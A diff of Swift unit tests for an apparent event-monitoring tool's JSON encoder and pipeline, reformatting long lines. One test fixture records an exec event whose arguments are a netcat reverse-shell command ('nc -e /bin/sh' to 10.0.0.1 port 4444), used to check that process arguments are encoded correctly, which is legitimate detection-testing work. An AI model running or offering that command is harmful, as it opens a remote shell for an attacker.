@@ -8,7 +8,9 @@ import WitnessTestSupport
 struct EventJSONEncoderTests {
     let clock = WallClock(offset: 1_778_536_628_000_000_000)
 
-    func encode(_ fixture: RecordFixture, process: ProcessRecord? = nil, parent: ProcessRecord? = nil) throws
+    func encode(
+        _ fixture: RecordFixture, process: ProcessRecord? = nil, parent: ProcessRecord? = nil
+    ) throws
         -> [String: Any]
     {
         let encoder = EventJSONEncoder(hostname: Array("node-1".utf8), clock: clock)
@@ -86,7 +88,8 @@ struct EventJSONEncoderTests {
     }
 
     @Test func execEventHasArgs() throws {
-        let line = try encode(RecordFixture.exec(filename: "/usr/bin/nc", argv: ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]))
+        let line = try encode(
+            RecordFixture.exec(filename: "/usr/bin/nc", argv: ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"]))
         let fields = try #require(line["output_fields"] as? [String: Any])
         #expect(fields["evt.type"] as? String == "execve")
         #expect(fields["proc.args"] as? String == "-e /bin/sh 10.0.0.1 4444")
@@ -109,7 +112,8 @@ struct EventJSONEncoderTests {
 @Suite("Pipeline and process table")
 struct EventPipelineTests {
     @Test func pipelineWritesOneLinePerEventAndTracksProcesses() throws {
-        let path = FileManager.default.temporaryDirectory.appendingPathComponent("witness-pipeline-\(UUID()).jsonl").path
+        let path = FileManager.default.temporaryDirectory.appendingPathComponent("witness-pipeline-\(UUID()).jsonl")
+            .path
         defer { unlink(path) }
         let sink = try OutputSink.appending(to: path)
         let table = ProcessTable(procRoot: "/nonexistent")
